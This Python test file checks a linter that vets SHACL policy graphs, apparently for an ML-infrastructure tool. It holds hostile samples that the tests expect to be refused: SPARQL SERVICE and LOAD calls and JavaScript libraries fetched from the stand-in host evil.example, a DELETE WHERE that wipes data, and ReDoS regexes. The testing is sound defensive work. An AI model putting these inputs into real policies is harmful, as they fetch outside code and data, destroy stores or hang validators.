"""Policy lint: hostile shapes graphs are refused (or warned about), benign ones pass."""

from __future__ import annotations

import time

import pytest
from rdflib import Graph

from engine.errors import PolicyError
from engine.policies.lint import (
    lint_shapes,
    lint_text,
    pattern_problems,
    raise_for_errors,
    shapes_validator,
)

HEAD = """
@prefix sh: <http://www.w3.org/ns/shacl#> .
@prefix owl: <http://www.w3.org/2002/07/owl#> .
@prefix xsd: <http://www.w3.org/2001/XMLSchema#> .
@prefix dash: <http://datashapes.org/dash#> .
@prefix mlwa: <https://w3id.org/mlwa/ontology#> .
@prefix pol: <https://w3id.org/mlwa/policy/> .
@prefix acme: <https://acme.example/policy/> .
acme: sh:declare [ sh:prefix "mlwa" ; sh:namespace "https://w3id.org/mlwa/ontology#"^^xsd:anyURI ] .
"""


def sparql_shape(query: str, kind: str = "select") -> str:
    return HEAD + f"""
acme:ACME-001 a sh:NodeShape ; sh:targetClass mlwa:Endpoint ;
  sh:sparql [ sh:prefixes acme: ; sh:{kind} \"\"\"{query}\"\"\" ] .
"""


def pattern_shape(pattern: str, flags: str | None = None) -> str:
    flag = f' ; sh:flags "{flags}"' if flags else ""
    escaped = pattern.replace("\\", "\\\\").replace('"', '\\"')
    return HEAD + f"""
acme:ACME-002 a sh:NodeShape ; sh:targetClass mlwa:Endpoint ;
  sh:property [ sh:path mlwa:instanceType ; sh:pattern "{escaped}"{flag} ] .
"""


HOSTILE: dict[str, tuple[str, str, str]] = {
    # name: (turtle, code, text in message)
    "service": (sparql_shape("SELECT $this WHERE { SERVICE <http://evil.example/sparql> "
                             "{ $this ?p ?o } }"), "PL003", "SERVICE"),
    "from": (sparql_shape("SELECT $this FROM <http://evil.example/g> WHERE { $this ?p ?o }"),
             "PL003", "FROM"),
    "graph": (sparql_shape("SELECT $this WHERE { GRAPH ?g { $this ?p ?o } }"), "PL003", "GRAPH"),
    "load-in-select": (sparql_shape("LOAD <http://evil.example/x>"), "PL003", "updates"),
    "insert-in-select": (sparql_shape("INSERT DATA { <urn:a> <urn:b> <urn:c> }"), "PL003",
                         "updates"),
    "update": (sparql_shape("DELETE WHERE { ?s ?p ?o }", kind="update"), "PL004", "sh:update"),
    "custom-function": (sparql_shape("SELECT $this WHERE { $this mlwa:x ?v "
                                     "FILTER(<http://ex/fn>(?v)) }"), "PL003", "function"),
    "owl-imports": (HEAD + "acme: owl:imports <http://evil.example/more.ttl> .\n", "PL001",
                    "owl:imports"),
    "shacl-js": (HEAD + """
acme:ACME-003 a sh:NodeShape ; sh:targetClass mlwa:Endpoint ;
  sh:js [ a sh:JSConstraint ; sh:message "x" ;
          sh:jsLibrary [ sh:jsLibraryURL "http://evil.example/lib.js"^^xsd:anyURI ] ;
          sh:jsFunctionName "check" ] .
""", "PL002", "SHACL-JS"),
    "dash-js": (HEAD + "acme:ACME-004 a sh:NodeShape ; dash:js \"1+1\" .\n", "PL002", "dash:js"),
    "redos": (pattern_shape("^(a+)+$"), "PL013", "exponential"),
    "redos-alternation": (pattern_shape("^(a|aa)+$"), "PL013", "alternatives"),
    "redos-bounded-outer": (pattern_shape("(.*a){20}"), "PL013", "exponential"),
    "backreference": (pattern_shape("^(a)\\1$"), "PL012", "backreferences"),
    "bad-regex": (pattern_shape("[a-z"), "PL011", "does not compile"),
    "bad-flags": (pattern_shape("^a$", flags="z"), "PL011", "sh:flags"),
    "long-regex": (pattern_shape("a" * 1001), "PL010", "1,001 characters"),
    "python-only-regex": (pattern_shape("^(?>a)$"), "PL011", "SPARQL REGEX"),
}


@pytest.mark.parametrize("name", sorted(HOSTILE))
def test_hostile_policies_are_refused(name: str) -> None:
    turtle, code, text = HOSTILE[name]
    issues = lint_text(turtle, source="acme/ACME.ttl")
    errors = [i for i in issues if i.level == "error"]
    assert any(i.code == code and text in i.message for i in errors), issues
    assert all(str(i.location).startswith("acme/ACME.ttl") for i in errors)
    with pytest.raises(PolicyError):
        raise_for_errors(issues, source="acme/ACME.ttl")


def test_error_names_the_shape() -> None:
    issues = lint_text(HOSTILE["service"][0], source="acme/ACME.ttl")
    assert issues[0].shape == "acme:ACME-001"
    assert "acme:ACME-001" in str(issues[0])


CROSS_JOIN = """SELECT $this ?other WHERE {
  $this a mlwa:Endpoint .
  ?other a mlwa:Endpoint .
  ?x mlwa:region ?r .
}"""


def test_cross_join_warns() -> None:
    issues = lint_text(sparql_shape(CROSS_JOIN), source="acme/ACME.ttl")
    assert [i.level for i in issues] == ["warning"]
    assert issues[0].code == "PL020"
    assert "?other" in issues[0].message and "cross join" in issues[0].message
    raise_for_errors(issues, source="acme/ACME.ttl")  # a warning alone does not refuse


BENIGN = {
    "only-this-and-constants": sparql_shape("""SELECT $this WHERE {
  $this mlwa:lifecycleStage "production" .
  FILTER NOT EXISTS { $this mlwa:feedbackLoop true }
}"""),
    "sparql-constraint": sparql_shape("""SELECT $this ?value WHERE {
  $this mlwa:dataCapture ?capture .
  ?capture mlwa:enabled ?value .
  FILTER NOT EXISTS { $this mlwa:monitor ?m . ?m mlwa:kind "data-quality" }
  FILTER (REGEX(STR(?value), "^false$"))
}"""),
    "ask-validator": HEAD + """
acme:MaxCount a sh:ConstraintComponent ;
  sh:parameter [ sh:path acme:maxItems ] ;
  sh:validator [ a sh:SPARQLAskValidator ;
    sh:ask "ASK { FILTER NOT EXISTS { $this $PATH ?v . ?v ?p $maxItems } }" ] .
""",
    "patterns": HEAD + """
acme:ACME-010 a sh:NodeShape ; sh:targetClass mlwa:Endpoint ;
  sh:property [ sh:path mlwa:instanceType ; sh:pattern "^ml\\\\.[a-z0-9]+\\\\.(x?large|[0-9]+xlarge)$" ] ;
  sh:property [ sh:path mlwa:name ; sh:pattern "^[a-z0-9]+(-[a-z0-9]+)*$" ] ;
  sh:property [ sh:path mlwa:ip ; sh:pattern "^(\\\\d{1,3}\\\\.){3}\\\\d{1,3}$" ] ;
  sh:property [ sh:path mlwa:kms ; sh:pattern "^arn:aws:kms:" ; sh:flags "i" ] .
""",
}


@pytest.mark.parametrize("name", sorted(BENIGN))
def test_benign_policies_pass(name: str) -> None:
    assert lint_text(BENIGN[name], source="acme/ok.ttl") == []


def test_lint_shapes_on_a_graph() -> None:
    graph = Graph().parse(data=HOSTILE["redos"][0], format="turtle")
    assert [i.code for i in lint_shapes(graph, source="x.ttl")] == ["PL013"]


def test_unparseable_file() -> None:
    issues = lint_text("@prefix broken", source="bad.ttl")
    assert [i.code for i in issues] == ["PL000"]


def test_store_validator_hook() -> None:
    validate = shapes_validator("acme/ACME.ttl")
    validate(BENIGN["patterns"].encode())
    with pytest.raises(PolicyError) as info:
        validate(HOSTILE["service"][0].encode())
    assert any("SERVICE" in line for line in info.value.lines())


def test_pattern_checks_are_fast_on_hostile_input() -> None:
    start = time.perf_counter()
    for _ in range(20):
        pattern_problems("(" * 50 + "a+" + ")+" * 50)
    assert time.perf_counter() - start < 5
